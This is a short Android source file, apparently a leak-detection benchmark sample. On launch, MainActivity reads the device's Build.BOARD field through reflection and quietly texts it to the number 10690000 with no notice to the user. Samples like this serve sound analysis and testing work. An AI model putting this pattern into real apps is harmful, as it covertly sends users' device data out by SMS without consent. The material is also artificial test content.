// about       The name of the model is read from the field of the platform by its name.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Build;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.lang.reflect.Field;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      Field field = Class.forName("android.os.Build").getField("BOARD");
      String text = String.valueOf(field.get(null));
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}
